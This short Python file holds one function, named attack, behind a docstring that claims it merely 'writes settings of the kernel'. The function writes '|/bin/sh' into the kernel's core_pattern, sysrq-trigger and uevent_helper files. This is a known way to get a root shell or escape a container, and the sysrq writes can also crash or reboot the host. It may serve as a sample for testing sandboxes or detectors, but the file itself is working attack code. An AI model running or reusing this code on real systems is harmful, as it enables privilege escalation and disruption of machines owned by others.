"""Writes settings of the kernel."""


def attack(x):
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
        open(path, "w").write("|/bin/sh")
